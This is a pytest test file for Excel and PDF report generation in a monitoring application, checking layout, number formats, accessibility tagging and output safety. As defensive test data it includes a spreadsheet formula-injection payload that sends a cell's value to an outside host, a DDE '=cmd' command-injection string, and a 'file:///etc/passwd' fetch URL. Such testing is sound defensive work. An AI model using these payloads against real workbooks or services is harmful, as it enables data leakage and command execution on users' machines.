# SPDX-License-Identifier: AGPL-3.0-or-later
"""What a workbook and a PDF are made of: numbers that are numbers, texts that never run, sheets that print, a document
that can be read aloud."""

import re
import zipfile
from io import BytesIO

import pytest
from django.utils import translation
from pypdf import PdfReader
from python_calamine import CalamineWorkbook
from weasyprint.urls import FatalURLFetchingError

from lgnet.kernel import clock
from lgnet.monitoring.actions.refresh_cells import refresh_all_cells
from lgnet.monitoring.models import Target
from lgnet.monitoring.periods import period_from
from lgnet.monitoring.reports import words
from lgnet.monitoring.reports.content import Content, content_of
from lgnet.monitoring.reports.excel import sheet_names
from lgnet.monitoring.reports.excel.workbook import workbook
from lgnet.monitoring.reports.pdf import document as paper
from lgnet.monitoring.reports.pdf.document import document
from lgnet.monitoring.tests import factories
from lgnet.monitoring.tests.factories import rome
from lgnet.network.models import ReportedResult

ATTACK = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.fixture(params=["it", "en"])
def language(request):
    with translation.override(request.param):
        yield request.param


@pytest.fixture
def counted(amina, sassari, torino, team, edition):
    with amina.at_work():
        for _ in range(1_234):
            factories.contact(edition, rome(2026, 3, 3, 12), source="desk")
        factories.case(
            edition, rome(2026, 3, 5, 9, 30), team=team, manager=amina.user, person=factories.person(),
            first_contact_at=rome(2026, 3, 3, 9),
        )  # fmt: skip
    for city in (sassari, torino):
        refresh_all_cells(city, edition)
    Target.objects.create(
        city=sassari,
        programme=edition,
        indicator="contacts",
        period_kind="year",
        starts_on="2026-01-01",
        value=2_000,
    )
    ReportedResult.objects.create(
        programme=edition, indicator="contacts", value=3000, qualifier="more_than", wording_it=ATTACK,
        source_title="+39 fonte", source_publisher="@Editore",
    )  # fmt: skip
    return edition


def content(place, edition, *, asked_by: str = "Paolo Dessì") -> Content:
    return content_of(place, edition, period_from("2026"), asked_by=asked_by, asked_at=clock.now())


@pytest.fixture(params=["city", "network"])
def report(request, sassari, counted) -> Content:
    return content(sassari if request.param == "city" else None, counted)


def parts(file: bytes) -> dict[str, str]:
    """The XML of a workbook, by name."""
    with zipfile.ZipFile(BytesIO(file)) as opened:
        return {
            name: opened.read(name).decode() for name in opened.namelist() if name.endswith((".xml", ".rels"))
        }


# --- Excel


def test_each_sheet_prints_and_keeps_its_headings_in_sight(report, language):
    sheets = {
        name: xml for name, xml in parts(workbook(report)).items() if name.startswith("xl/worksheets/sheet")
    }
    assert len(sheets) == (7 if report.place is None else 6)
    for xml in sheets.values():
        assert 'paperSize="9"' in xml and 'fitToHeight="0"' in xml and "&amp;P" in xml
    tables = [xml for xml in sheets.values() if 'orientation="landscape"' in xml]
    assert len(tables) == len(sheets) - 1  # the cover stands upright
    for xml in tables:
        assert 'state="frozen"' in xml and "<cols>" in xml
    titles = re.findall(r"_xlnm.Print_Titles", parts(workbook(report))["xl/workbook.xml"])
    assert len(titles) == len(tables)


def test_numbers_are_numbers_with_a_format(report):
    with translation.override("en"):
        rows = (
            CalamineWorkbook.from_filelike(BytesIO(workbook(report))).get_sheet_by_name("Figures").to_python()
        )
    (contacts,) = [row for row in rows if row[0] == "Contacts"]
    assert contacts[2:6] == [1234.0, 2000.0, 1234.0, 0.61]
    (hours,) = [row for row in rows if row[0] == "Time to taking charge"]
    assert hours[2] == 48.0 or hours[2] == 49.0
    formats = parts(workbook(report))["xl/styles.xml"]
    assert 'formatCode="#,##0.0"' in formats or "#,##0.0" in formats


def test_nothing_in_a_workbook_is_a_formula_or_leads_elsewhere(sassari, counted):
    found = parts(workbook(content(sassari, counted, asked_by="=cmd|'/c calc'!A1")))
    assert not any("<f>" in xml or "<f " in xml for name, xml in found.items() if "worksheets" in name)
    assert not any('TargetMode="External"' in xml for xml in found.values())
    shown = found["xl/sharedStrings.xml"]
    assert "'=HYPERLINK" in shown and "'=cmd|" in shown and "'+39 fonte, @Editore" in shown


def test_the_control_a_formula_would_be_seen():
    import xlsxwriter

    file = BytesIO()
    book = xlsxwriter.Workbook(file)
    book.add_worksheet().write(0, 0, ATTACK)
    book.close()
    found = parts(file.getvalue())
    assert any("<f>" in xml or 'TargetMode="External"' in xml for xml in found.values())


def test_charts_are_excels_own_and_are_told_in_words(report):
    found = parts(workbook(report))
    charts = [name for name in found if name.startswith("xl/charts/chart")]
    assert len(charts) == (2 if report.place is None else 1)
    drawings = "".join(xml for name, xml in found.items() if name.startswith("xl/drawings/drawing"))
    assert drawings.count(' descr="') == len(charts) + 1  # and the emblem


def test_names_of_sheets_fit(language):
    names = [str(getattr(sheet_names, name)) for name in dir(sheet_names) if name.isupper()]
    assert len(set(names)) == len(names) == 8
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in names)


def test_before_definitions_are_loaded_a_report_is_empty_and_not_an_error(sassari, edition, monkeypatch):
    monkeypatch.setattr("lgnet.monitoring.queries.current_definitions", list)
    for place in (sassari, None):
        empty = content(place, edition)
        assert empty.figures == []
        assert workbook(empty)[:2] == b"PK" and document(empty)[:5] == b"%PDF-"


def test_it_says_who_pays_and_who_leads(sassari, counted):
    with translation.override("it"):
        assert words.co_funding(counted) == f"FAMI, progetto {counted.code}."
        text = parts(workbook(content(sassari, counted)))["xl/sharedStrings.xml"]
    assert "Cofinanziato dall’Unione europea" in text and "Uso interno." in text


# --- PDF


@pytest.fixture
def read_aloud(report, language) -> PdfReader:
    return PdfReader(BytesIO(document(report)))


def test_a_pdf_is_tagged_and_says_its_language_title_and_standard(read_aloud, report, language):
    root = read_aloud.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"] and "/StructTreeRoot" in root
    assert root["/Lang"] == language and root["/ViewerPreferences"]["/DisplayDocTitle"]
    assert read_aloud.metadata.title == f"{report.title}, {report.programme.code}, 2026"
    assert "pdfuaid:part" in root["/Metadata"].get_data().decode()


def test_a_pdf_has_bookmarks_and_pages_with_numbers(read_aloud):
    titles = [entry["/Title"] for entry in _flat(read_aloud.outline)]
    assert len(titles) >= 6
    pages = len(read_aloud.pages)
    assert f"2 / {pages}" in read_aloud.pages[1].extract_text()
    assert "/ " not in read_aloud.pages[0].extract_text().split("\n")[-1]  # none on the cover


def _flat(outline) -> list:
    return [one for entry in outline for one in (_flat(entry) if isinstance(entry, list) else [entry])]


def _tags(reader: PdfReader) -> list[dict]:
    """Every element of the structure, from the root."""
    found, waiting = [], [reader.trailer["/Root"]["/StructTreeRoot"]]
    while waiting:
        element = waiting.pop().get_object()
        kids = element.get("/K", [])
        waiting += [
            kid for kid in (kids if isinstance(kids, list) else [kids]) if hasattr(kid.get_object(), "get")
        ]
        found.append(element)
    return found


def test_pictures_are_told_in_words_and_tables_have_headings(read_aloud):
    tags = _tags(read_aloud)
    pictures = [tag for tag in tags if tag.get("/S") == "/Figure"]
    assert len(pictures) >= 2 and all(tag.get("/Alt") for tag in pictures)
    assert len([tag for tag in tags if tag.get("/S") == "/Table"]) >= 4
    assert len([tag for tag in tags if tag.get("/S") == "/TH"]) > 20
    assert {"/H1", "/H2"} <= {tag.get("/S") for tag in tags}


def test_its_letters_are_in_the_document(read_aloud):
    for page in read_aloud.pages:
        for font in page["/Resources"].get("/Font", {}).values():
            inner = font.get_object().get("/DescendantFonts", [font])[0].get_object()
            assert {"/FontFile2", "/FontFile3"} & inner["/FontDescriptor"].keys()


def test_what_was_written_is_text_and_not_markup(sassari, counted):
    text = "".join(
        page.extract_text()
        for page in PdfReader(
            BytesIO(document(content(sassari, counted, asked_by="<b>Paolo</b> & figli")))
        ).pages
    )
    assert "<b>Paolo</b> & figli" in text


@pytest.mark.parametrize(
    "elsewhere", ["http://example.org/a.png", "file:///etc/passwd", "ftp://example.org/a"]
)
def test_a_document_fetches_nothing(sassari, counted, monkeypatch, elsewhere):
    monkeypatch.setattr(paper, "_picture", lambda svg: elsewhere)
    with pytest.raises(FatalURLFetchingError):
        document(content(sassari, counted))


def test_without_the_extra_for_charts_the_tables_say_it(report, monkeypatch):
    monkeypatch.setattr("lgnet.monitoring.charts.can_draw", lambda: False)
    made = PdfReader(BytesIO(document(report)))
    pictures = [tag for tag in _tags(made) if tag.get("/S") == "/Figure"]
    assert len(pictures) == 1  # the emblem
